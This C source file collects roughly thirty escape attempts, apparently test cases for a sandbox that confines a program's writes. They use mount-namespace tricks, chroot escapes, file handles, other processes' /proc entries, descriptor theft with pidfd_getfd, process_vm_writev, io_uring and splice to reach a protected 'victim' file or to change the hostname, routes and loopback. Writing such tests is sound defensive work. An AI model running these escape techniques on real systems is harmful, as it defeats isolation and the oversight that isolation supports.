// Programs that try to change something out of scope by new calls of the kernel, by the state of the system, or by
// processes that they were not told about. Each is one function; `later_kinds NAME` runs it. The world is that of
// `attacks.c`.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <net/if.h>
#include <net/route.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define VICTIM "/w/out/victim"
static void put(int fd) { if (fd < 0) perror("open"); else if (write(fd, "attacked\n", 9) < 0) perror("write"); }
static void at(const char *path) { put(open(path, O_WRONLY | O_APPEND | O_CREAT, 0666)); }
static void text(const char *path, const char *line) { int fd = open(path, O_WRONLY); if (fd >= 0) { if (write(fd, line, strlen(line)) < 0) perror(path); close(fd); } }
static void nested(int flags) {
  int u = geteuid(), g = getegid(); char map[64];
  if (unshare(CLONE_NEWUSER | flags)) { perror("unshare"); return; }
  text("/proc/self/setgroups", "deny"); snprintf(map, 64, "%d %d 1", u, u); text("/proc/self/uid_map", map); snprintf(map, 64, "%d %d 1", g, g); text("/proc/self/gid_map", map);
}
struct attributes { uint64_t set, clear, propagation, userns; };
static int tree(const char *path, unsigned flags) { int fd = syscall(428, AT_FDCWD, path, flags | O_CLOEXEC); if (fd < 0) perror("open_tree"); return fd; }
static int clear_read_only(int fd) { struct attributes a = {.clear = 1}; int r = syscall(442, fd, "", AT_EMPTY_PATH | 0x8000, &a, sizeof a); if (r) perror("mount_setattr"); return r; }

// -- mounts that are never attached, and trees that are not copies
static void tree_plain(void) { put(openat(tree("/w/out", 0), "victim", O_WRONLY | O_APPEND)); }
static void tree_detached(void) { nested(CLONE_NEWNS); put(openat(tree("/w/out", 1 | 0x8000), "victim", O_WRONLY | O_APPEND)); at(VICTIM); }
static void tree_detached_cleared(void) { nested(CLONE_NEWNS); int t = tree("/", 1 | 0x8000); clear_read_only(t); put(openat(t, "w/out/victim", O_WRONLY | O_APPEND)); at(VICTIM); }
static void tree_of_scope_up(void) { nested(CLONE_NEWNS); put(openat(tree("/w/src", 1 | 0x8000), "../out/victim", O_WRONLY | O_APPEND)); at(VICTIM); }
static void tree_attr(void) { nested(CLONE_NEWNS); struct attributes a = {.clear = 1}; int t = syscall(467, AT_FDCWD, "/w/out", 1 | 0x8000 | O_CLOEXEC, &a, sizeof a); if (t >= 0) put(openat(t, "victim", O_WRONLY | O_APPEND)); else perror("open_tree_attr"); at(VICTIM); }
static void tree_shared(void) { nested(CLONE_NEWNS); struct attributes a = {.propagation = MS_SHARED}; syscall(442, AT_FDCWD, "/", 0x8000, &a, sizeof a); mount("/w/src", "/w/out", 0, MS_BIND, 0); umount2("/w/out", MNT_DETACH); at(VICTIM); }
static void tree_over_scope(void) { nested(CLONE_NEWNS); int t = tree("/w/out", 1 | 0x8000); syscall(429, t, "", AT_FDCWD, "/w/src/m", 4); at("/w/src/m/victim"); at(VICTIM); }
static void tree_umount_all(void) { nested(CLONE_NEWNS); for (int i = 0; i < 40; i++) umount2("/w/src", MNT_DETACH), umount2("/w", MNT_DETACH), umount2("/", MNT_DETACH); at(VICTIM); }
static void fs_pick(void) { int fd = syscall(433, AT_FDCWD, "/w", 0); syscall(431, fd, 0, "rw", 0, 0); if (syscall(431, fd, 7, 0, 0, 0)) perror("fsconfig"); at(VICTIM); }
static void fs_overlay_moved(void) {
  nested(CLONE_NEWNS); mkdir("/w/src/up", 0777), mkdir("/w/src/wk", 0777);
  int fd = syscall(430, "overlay", 1); syscall(431, fd, 1, "lowerdir", "/w/out", 0); syscall(431, fd, 1, "upperdir", "/w/out", 0); syscall(431, fd, 1, "workdir", "/w/src/wk", 0); syscall(431, fd, 0, "userxattr", 0, 0);
  if (syscall(431, fd, 6, 0, 0, 0)) perror("overlay"); int m = syscall(432, fd, 1, 0); if (m >= 0) put(openat(m, "victim", O_WRONLY | O_APPEND)); at(VICTIM);
}

// -- a root of one's own
static void root_climbed(void) { nested(0); mkdir("/w/src/jail", 0777); int d = open("/", O_RDONLY); if (chroot("/w/src/jail")) perror("chroot"); for (int i = 0; i < 8; i++) chdir(".."); at("w/out/victim"); if (!fchdir(d)) at("w/out/victim"); }
static void root_by_descriptor(void) { nested(0); int d = open("/w", O_PATH); if (chroot("/w/src")) perror("chroot"); put(openat(d, "out/victim", O_WRONLY | O_APPEND)); }
static void root_shared_fs(void) { if (fork() == 0) { unshare(CLONE_FS); nested(0); if (chroot("/w")) perror("chroot"); at("/out/victim"); _exit(0); } wait(0); }

// -- handles of files
struct handle { unsigned bytes; int type; unsigned char data[128]; };
static void handle_of_scope_mount(void) { struct handle h = {.bytes = 128}; int id; nested(CLONE_NEWNS); if (syscall(SYS_name_to_handle_at, AT_FDCWD, VICTIM, &h, &id, 0)) perror("name_to_handle_at"); int m = open("/w/src", O_RDONLY); put(syscall(SYS_open_by_handle_at, m, &h, O_WRONLY | O_APPEND)); at(VICTIM); }
static void handle_connectable(void) { struct handle h = {.bytes = 128}; int id; if (syscall(SYS_name_to_handle_at, AT_FDCWD, VICTIM, &h, &id, 2)) perror("name_to_handle_at"); put(syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_WRONLY | O_APPEND)); at(VICTIM); }

// -- every process that can be seen, the one that waits for the command among them
static void everyone(const char *format) {
  DIR *d = opendir("/proc"); struct dirent *e; char path[300];
  while (d && (e = readdir(d))) if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid()) { snprintf(path, 300, format, e->d_name); int fd = open(path, O_WRONLY | O_APPEND); if (fd >= 0) { put(fd); close(fd); } }
}
static void everyone_root(void) { everyone("/proc/%s/root/w/out/victim"); }
static void everyone_cwd(void) { everyone("/proc/%s/cwd/out/victim"); everyone("/proc/%s/cwd/w/out/victim"); }
static void everyone_fds(void) { char f[64]; for (int i = 0; i < 16; i++) { snprintf(f, 64, "/proc/%%s/fd/%d/victim", i); everyone(f); } everyone("/proc/%s/root/w/out/victim"); }
static void everyone_joined(void) {
  DIR *d = opendir("/proc"); struct dirent *e; char path[300];
  while (d && (e = readdir(d))) if (atoi(e->d_name) > 0 && fork() == 0) { snprintf(path, 300, "/proc/%s/ns/user", e->d_name); setns(open(path, O_RDONLY), 0); snprintf(path, 300, "/proc/%s/ns/mnt", e->d_name); setns(open(path, O_RDONLY), 0); at(VICTIM); _exit(0); }
  while (wait(0) > 0);
}
static void everyone_stolen(void) {
  DIR *d = opendir("/proc"); struct dirent *e; pid_t child = fork(); if (child == 0) { open(VICTIM, O_WRONLY | O_APPEND); pause(); } usleep(50000);
  while (d && (e = readdir(d))) { int p = atoi(e->d_name); if (p <= 0 || p == getpid()) continue; int fd = syscall(434, p, 0); for (int i = 3; i < 12; i++) { int got = syscall(438, fd, i, 0); struct stat s; if (got >= 0 && !fstat(got, &s)) { if (S_ISREG(s.st_mode) && write(got, "x", 1) < 0) perror("write"); close(got); } } close(fd); }
  kill(child, 9);
}
static void everyone_written(void) {
  DIR *d = opendir("/proc"); struct dirent *e; char *address = (char *)strtoul(getenv("ADDRESS") ?: "0", 0, 16);
  while (d && (e = readdir(d))) { char one = 1; struct iovec l = {&one, 1}, r = {address, 1}; syscall(SYS_process_vm_writev, atoi(e->d_name), &l, 1, &r, 1, 0); } usleep(300000);
}

// -- rings with descriptors that no table of the process holds
static int ring(struct io_uring_params *p, void **sq, void **sqes) {
  memset(p, 0, sizeof *p); int fd = syscall(425, 8, p); if (fd < 0) { perror("io_uring_setup"); return fd; }
  *sq = mmap(0, 4096 * 4, 3, MAP_SHARED | MAP_POPULATE, fd, 0); *sqes = mmap(0, 4096, 3, MAP_SHARED | MAP_POPULATE, fd, 0x10000000); return fd;
}
static void submit(int fd, struct io_uring_params *p, void *sq, struct io_uring_sqe *sqes, const struct io_uring_sqe *one) {
  unsigned *tail = sq + p->sq_off.tail, *mask = sq + p->sq_off.ring_mask, *array = sq + p->sq_off.array, i = *tail & *mask;
  sqes[i] = *one; array[i] = i; __sync_synchronize(); (*tail)++; syscall(426, fd, 1, 1, 1, 0, 0);
}
static void ring_direct(void) {
  struct io_uring_params p; void *sq, *sqes; int fd = ring(&p, &sq, &sqes); if (fd < 0) { at(VICTIM); return; }
  int none = -1; syscall(427, fd, 2, &none, 1);
  struct io_uring_sqe open_ = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uint64_t)VICTIM, .open_flags = O_WRONLY | O_APPEND, .file_index = 1};
  submit(fd, &p, sq, sqes, &open_);
  struct io_uring_sqe write_ = {.opcode = IORING_OP_WRITE, .flags = 1, .fd = 0, .addr = (uint64_t) "attacked\n", .len = 9, .off = -1};
  submit(fd, &p, sq, sqes, &write_);
}
static void ring_by_child(void) {
  struct io_uring_params p; void *sq, *sqes; int fd = ring(&p, &sq, &sqes); if (fd < 0) { at(VICTIM); return; }
  if (fork() == 0) { struct io_uring_sqe r = {.opcode = IORING_OP_RENAMEAT, .fd = AT_FDCWD, .addr = (uint64_t)"/w/out/other", .len = AT_FDCWD, .addr2 = (uint64_t)"/w/out/moved"}; submit(fd, &p, sq, sqes, &r); _exit(0); } wait(0);
}

// -- pages of files that are open for reading
static void pages_spliced(void) { int fd = open(VICTIM, O_RDONLY), p[2]; pipe(p); loff_t o = 0; splice(fd, &o, p[1], 0, 1, 0); if (write(p[1], "XXXX", 4) < 0) perror("write"); at(VICTIM); }
static void pages_locked_private(void) { int fd = open(VICTIM, O_RDONLY); char *m = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0); if (m != MAP_FAILED) { mlock(m, 4096); m[0] = 'X'; msync(m, 4096, MS_SYNC); madvise(m, 4096, MADV_DONTNEED); } put(open(VICTIM, O_WRONLY | O_APPEND)); }
static void pages_secret(void) { int s = syscall(447, 0); if (s >= 0) { ftruncate(s, 4096); mmap(0, 4096, 3, MAP_SHARED, s, 0); } int p[2]; pipe(p); struct iovec v = {"attacked\n", 9}; vmsplice(p[1], &v, 1, 0); int fd = open(VICTIM, O_WRONLY); if (fd < 0 || splice(p[0], 0, fd, 0, 9, 0) < 0) perror("splice"); }

// -- the system itself
static void system_host_name(void) { if (sethostname("attacked", 8)) perror("sethostname"); }
static void system_domain_name(void) { if (setdomainname("attacked", 8)) perror("setdomainname"); }
static void system_route(void) {
  struct rtentry r = {0}; struct sockaddr_in *a = (void *)&r.rt_dst, *m = (void *)&r.rt_genmask; a->sin_family = m->sin_family = AF_INET; inet_aton("10.9.8.0", &a->sin_addr); inet_aton("255.255.255.0", &m->sin_addr); r.rt_flags = RTF_UP; r.rt_dev = "lo";
  if (ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCADDRT, &r)) perror("SIOCADDRT");
}
static void system_loopback_down(void) { struct ifreq r = {0}; strcpy(r.ifr_name, "lo"); if (ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFFLAGS, &r)) perror("SIOCSIFFLAGS"); }

static const struct { const char *name; void (*run)(void); const char *marks; } all[] = {
#define A(x) {#x, x, ""}
#define M(x, marks) {#x, x, marks}
  A(tree_plain), A(tree_detached), A(tree_detached_cleared), A(tree_of_scope_up), A(tree_attr), A(tree_shared), A(tree_over_scope), A(tree_umount_all), A(fs_pick), A(fs_overlay_moved),
  A(root_climbed), A(root_by_descriptor), A(root_shared_fs), A(handle_of_scope_mount), A(handle_connectable),
  A(everyone_root), A(everyone_cwd), A(everyone_fds), A(everyone_joined), A(everyone_stolen), A(everyone_written),
  A(ring_direct), A(ring_by_child), A(pages_spliced), A(pages_locked_private), A(pages_secret),
  M(system_host_name, "[root]"), M(system_domain_name, "[root]"), M(system_route, "[root]"), M(system_loopback_down, "[root]"),
};
int main(int argc, char **argv) {
  for (unsigned i = 0; i < sizeof all / sizeof *all; i++) {
    if (argc < 2) printf("%s%s%s\n", all[i].name, *all[i].marks ? " " : "", all[i].marks);
    else if (!strcmp(all[i].name, argv[1])) { all[i].run(); return 0; }
  }
  return argc < 2 ? 0 : 2;
}
